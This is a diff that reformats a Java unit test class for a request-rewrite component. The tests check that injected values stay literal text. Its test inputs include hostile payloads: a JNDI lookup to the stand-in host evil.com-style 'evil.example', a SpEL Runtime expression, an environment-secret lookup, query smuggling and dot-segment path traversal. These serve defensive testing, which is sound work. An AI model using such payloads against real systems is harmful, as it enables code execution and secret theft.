@@ -41,7 +41,8 @@ class RequestRewriteTest {
 
     @Test
     void a_prefix_is_compared_in_normal_form() {
-        assertThat(sent(strip("//caf%c3%a9/./x/"), AskedClient.asking("/caf%C3%A9/x/y"))).isEqualTo("/y");
+        assertThat(sent(strip("//caf%c3%a9/./x/"), AskedClient.asking("/caf%C3%A9/x/y")))
+                .isEqualTo("/y");
     }
 
     @ParameterizedTest
@@ -70,9 +71,9 @@ class RequestRewriteTest {
 
     @Test
     void what_a_trailing_double_star_matched_is_sent_as_it_came() {
-        AskedClient client = AskedClient.asking("/admin/a;x=1,2/%2B+:@!$&'()*/").parameter("rest", "a;x=1,2/%2B+:@!$&'()*/");
-        assertThat(sent(rewrite("/internal/admin/{rest}"), client))
-                .isEqualTo("/internal/admin/a;x=1,2/%2B+:@!$&'()*/");
+        AskedClient client =
+                AskedClient.asking("/admin/a;x=1,2/%2B+:@!$&'()*/").parameter("rest", "a;x=1,2/%2B+:@!$&'()*/");
+        assertThat(sent(rewrite("/internal/admin/{rest}"), client)).isEqualTo("/internal/admin/a;x=1,2/%2B+:@!$&'()*/");
     }
 
     @Test
@@ -91,7 +92,9 @@ class RequestRewriteTest {
     @Test
     void a_value_in_the_query_of_a_rewrite_stays_one_value() {
         AskedClient client = AskedClient.asking("/invoices/7;x=1&y=2").parameter("id", "7;x=1&y=2");
-        assertThat(sent(rewrite("/legacy/invoice.do?id={id}&lang={query.lang}"), client.fact("query.lang", "d&admin=1#%")))
+        assertThat(sent(
+                        rewrite("/legacy/invoice.do?id={id}&lang={query.lang}"),
+                        client.fact("query.lang", "d&admin=1#%")))
                 .isEqualTo("/legacy/invoice.do?id=7%3Bx%3D1%26y%3D2&lang=d%26admin%3D1%23%25");
     }
 
@@ -103,7 +106,13 @@ class RequestRewriteTest {
 
     @ParameterizedTest
     @ValueSource(
-            strings = {"#{T(java.lang.Runtime)}", "${jndi:ldap://evil.example/a}", "${env:SECRET}", "{query.other}", "{{x}}"})
+            strings = {
+                "#{T(java.lang.Runtime)}",
+                "${jndi:ldap://evil.example/a}",
+                "${env:SECRET}",
+                "{query.other}",
+                "{{x}}"
+            })
     void a_value_that_looks_like_code_is_sent_as_text(String value) {
         AskedClient client = AskedClient.asking("/x").fact("query.q", value).fact("query.other", "LEAKED");
         String sent = sent(rewrite("/s/{query.q}"), client);
@@ -113,7 +122,13 @@ class RequestRewriteTest {
     }
 
     @ParameterizedTest
-    @CsvSource({"/v2/{query.d}/secret, ..", "/v2/{query.d}, .", "/v2/.{query.d}, .", "/v2/{query.d}/x, ..;a", "/{query.d}{query.d}, ."})
+    @CsvSource({
+        "/v2/{query.d}/secret, ..",
+        "/v2/{query.d}, .",
+        "/v2/.{query.d}, .",
+        "/v2/{query.d}/x, ..;a",
+        "/{query.d}{query.d}, ."
+    })
     void a_value_cannot_make_a_dot_segment(String rewrite, String value) {
         assertThat(rewrite(rewrite).target(AskedClient.asking("/x").fact("query.d", value), new HeadWriter()))
                 .isNull();
@@ -121,7 +136,8 @@ class RequestRewriteTest {
 
     @Test
     void a_missing_value_leaves_no_double_slash() {
-        assertThat(sent(rewrite("/{query.a}/{query.b}/x"), AskedClient.asking("/y"))).isEqualTo("/x");
+        assertThat(sent(rewrite("/{query.a}/{query.b}/x"), AskedClient.asking("/y")))
+                .isEqualTo("/x");
     }
 
     @ParameterizedTest
@@ -151,14 +167,15 @@ class RequestRewriteTest {
     @Test
     void edited_pairs_change_and_the_others_stay_as_they_came() {
         RequestRewrite rewrite = query(Map.of("b", "new value"), Map.of("c", "{client.ip}"), List.of("debug"));
-        AskedClient client =
-                AskedClient.asking("/x?z=%7e+%20&b=1&debug&a=1=2&b=3&%64ebug=1&c=0").fact("client.ip", "::1");
+        AskedClient client = AskedClient.asking("/x?z=%7e+%20&b=1&debug&a=1=2&b=3&%64ebug=1&c=0")
+                .fact("client.ip", "::1");
         assertThat(sent(rewrite, client)).isEqualTo("/x?z=%7e+%20&a=1=2&c=0&b=new%20value&c=%3A%3A1");
     }
 
     @Test
     void a_query_of_which_nothing_is_left_takes_its_question_mark_along() {
-        assertThat(sent(query(Map.of(), Map.of(), List.of("a")), AskedClient.asking("/x?a=1&a=2"))).isEqualTo("/x");
+        assertThat(sent(query(Map.of(), Map.of(), List.of("a")), AskedClient.asking("/x?a=1&a=2")))
+                .isEqualTo("/x");
     }
 
     @Test
@@ -166,7 +183,8 @@ class RequestRewriteTest {
         Map<String, String> add = new LinkedHashMap<>();
         add.put("z z", "1");
         add.put("a", "2");
-        assertThat(sent(query(Map.of(), add, List.of()), AskedClient.asking("/x"))).isEqualTo("/x?z%20z=1&a=2");
+        assertThat(sent(query(Map.of(), add, List.of()), AskedClient.asking("/x")))
+                .isEqualTo("/x?z%20z=1&a=2");
     }
 
     @Test
